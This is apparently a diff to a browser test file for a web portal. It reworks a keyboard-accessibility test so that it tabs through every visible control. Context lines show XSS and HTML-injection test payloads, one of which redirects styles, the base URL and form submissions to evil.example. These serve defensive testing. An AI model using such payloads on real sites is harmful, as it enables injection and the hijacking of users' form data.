@@ -23,6 +23,8 @@ const ATTACKS = [
   '"><style>@import "//evil.example/a.css"</style><base href="//evil.example/"><form action="//evil.example/">',
 ]
 
+const CONTROLS = 'a[href], button, input, select, summary, [tabindex="0"]'
+
 const HOSTILE_MARKDOWN = `---
 title: '"><script>alert(1)</script> in a title'
 ---
@@ -149,12 +151,15 @@ describe.skipIf(NO_BROWSER !== '')(`the portal ${NO_BROWSER}`, () => {
 
     test('works without scripts, and every link and field is reached by Tab', async () => {
       const { page } = await open(`${service.url}${path}`, { javaScriptEnabled: false })
-      const controls = await page
-        .locator('a[href], button, input:not([type=hidden]), select, summary')
-        .count()
-      expect(controls).toBeGreaterThan(3)
-      await page.keyboard.press('Tab')
-      expect(await page.locator('a.skip:focus').count()).toBe(1)
+      const all = page.locator(CONTROLS).locator('visible=true')
+      const count = await all.count()
+      expect(count).toBeGreaterThan(3)
+      for (let pressed = 0; pressed < count; pressed++) {
+        await page.keyboard.press('Tab')
+        await page.evaluate("document.activeElement.setAttribute('data-reached', '')")
+      }
+      const missed = page.locator(`:is(${CONTROLS}):not([data-reached])`).locator('visible=true')
+      expect(await missed.evaluateAll((elements) => elements.map(String))).toEqual([])
       expect(await page.locator('input[name=q]').first().isVisible()).toBe(true)
     })
   })
